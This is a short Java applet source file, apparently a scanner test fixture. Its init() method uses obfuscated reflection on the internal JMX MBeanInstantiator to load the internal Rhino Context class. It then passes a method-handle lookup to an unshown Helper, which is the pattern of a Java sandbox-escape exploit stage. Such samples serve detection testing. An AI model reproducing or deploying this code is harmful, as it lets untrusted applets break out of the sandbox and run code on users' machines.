package fixture.s2;

import java.lang.invoke.MethodHandles;
import javax.management.MBeanServer;

// [fixture:s2]
public class Jmx extends java.applet.Applet {
    public void init() {
        try {
            String m = "get" + "MBean" + "Instantiator";
            MBeanServer s = com.sun.jmx.mbeanserver.JmxMBeanServer.newMBeanServer("", null, null, true);
            Object inst = s.getClass().getMethod(m).invoke(s);
            Class<?> ctx = (Class<?>) inst.getClass().getMethod("find" + "Class", String.class, ClassLoader.class)
                    .invoke(inst, new String(new char[]{'s','u','n','.','o','r','g','.','m','o','z','i','l','l','a'}) + ".javascript.internal.Context", null);
            MethodHandles.Lookup lookup = MethodHandles.publicLookup();
            Helper.run(lookup, ctx);
        } catch (Throwable ignored) {
        }
    }
}
